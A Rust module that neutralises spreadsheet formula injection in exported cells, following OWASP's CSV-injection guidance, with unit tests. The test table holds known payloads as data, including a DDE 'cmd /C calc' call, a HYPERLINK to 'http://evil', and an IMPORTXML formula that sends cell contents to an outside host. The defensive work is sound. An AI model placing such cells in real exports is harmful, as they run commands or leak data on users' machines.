//! Spreadsheet formula injection (OWASP's "CSV Injection"): a cell a spreadsheet would run as a
//! formula (`=HYPERLINK(...)`, `=cmd|' /C calc'!A0`, `@SUM(...)`) is made text with a leading
//! `'`, which spreadsheets read as "this is text" and do not show.
//!
//! OWASP's rules (owasp.org/www-community/attacks/CSV_Injection): no cell may begin with `=`,
//! `+`, `-`, `@`, tab, CR or LF; every cell is quoted, quotes doubled (the writer does both);
//! and mind the separator, since "attackers could use this to start a new cell and then have
//! the dangerous character in the middle of the user input". A spreadsheet may split on `;`,
//! tab or `|` as readily as on `,` (by locale, or by guessing), so every place where any of
//! those could start a field is treated as the start of a cell.

/// A character that makes a spreadsheet read a field as a formula when it begins it: OWASP's
/// list, and the full-width and small forms of `=`, `+`, `-`, `@` (East Asian input methods
/// type them, and some spreadsheets fold them to ASCII).
pub fn is_trigger(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\n'
            | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}' // ＝ ＋ － ＠
            | '\u{FE66}' | '\u{FE62}' | '\u{FE63}' | '\u{FE6B}' // ﹦ ﹢ ﹣ ﹫
    )
}

/// The separators a spreadsheet may split a line on.
pub const SEPARATORS: [char; 4] = [',', ';', '\t', '|'];

/// A cell that no spreadsheet will evaluate, whichever separator it picks.
///
/// Line breaks and tabs become spaces first: a tab is a separator and a trigger at once, and a
/// line break starts a row in most importers. Then a `'` goes where a field could begin (the
/// cell's start, or just after a `,`, `;` or `|`) when a trigger follows, after any blanks and
/// quotes: some importers trim leading spaces, and a quote can open a quoted field.
pub fn defuse(cell: &str) -> String {
    let flat = super::one_line(cell);
    let mut out = String::with_capacity(flat.len() + 2);
    // Where the field that could begin here starts, while only blanks and quotes have followed.
    let mut field = Some(0);
    for c in flat.chars() {
        if let Some(at) = field {
            if is_trigger(c) {
                out.insert(at, '\'');
                field = None;
            } else if !(c.is_whitespace() || c == '"') {
                field = None;
            }
        }
        out.push(c);
        if SEPARATORS.contains(&c) {
            field = Some(out.len());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// (cell, what is written): payloads from OWASP's page and public CSV-injection lists, and
    /// text that must stay as it was.
    const CASES: &[(&str, &str)] = &[
        ("=1+1", "'=1+1"),
        (
            "=HYPERLINK(\"http://evil\")",
            "'=HYPERLINK(\"http://evil\")",
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        (
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "'@SUM(1+9)*cmd|' /C calc'!A0",
        ),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!E2", "'-2+3+cmd|' /C calc'!E2"),
        ("=1+2\";=1+2", "'=1+2\";'=1+2"),
        ("=1+2'\" ;,=1+2", "'=1+2'\" ;,'=1+2"),
        (
            "=IMPORTXML(CONCAT(\"http://x/?\", A2), \"//a\")",
            "'=IMPORTXML(CONCAT(\"http://x/?\", A2), \"//a\")",
        ),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("\n=1", "' =1"),
        ("  =1", "'  =1"),
        ("\"=1\"", "'\"=1\""),
        ("a;=1", "a;'=1"),
        ("a|=1", "a|'=1"),
        ("a,=1", "a,'=1"),
        ("a\t=1", "a =1"),
        ("a; \"@x", "a;' \"@x"),
        ("line\n-1", "line -1"),
        ("a,\t-1", "a,' -1"),
        ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
        ("\u{FF20}SUM(A1)", "'\u{FF20}SUM(A1)"),
        ("\u{3000}\u{FF0B}1", "'\u{3000}\u{FF0B}1"),
        ("-1", "'-1"),
        ("-enc SQBFAFgA", "'-enc SQBFAFgA"),
        ("10.0.0.1", "10.0.0.1"),
        (
            "2026-11-23T14:02:00Z (2 h ago)",
            "2026-11-23T14:02:00Z (2 h ago)",
        ),
        ("ws-fin-07.contoso.local", "ws-fin-07.contoso.local"),
        ("a = b + c", "a = b + c"),
        ("malicious; c2 infra", "malicious; c2 infra"),
        ("", ""),
    ];

    #[test]
    fn formula_cells_are_defused() {
        for (cell, want) in CASES {
            assert_eq!(defuse(cell), *want, "defuse({cell:?})");
        }
    }

    #[test]
    fn defusing_twice_changes_nothing_more() {
        for (cell, _) in CASES {
            let once = defuse(cell);
            assert_eq!(defuse(&once), once, "{cell:?}");
        }
    }
}
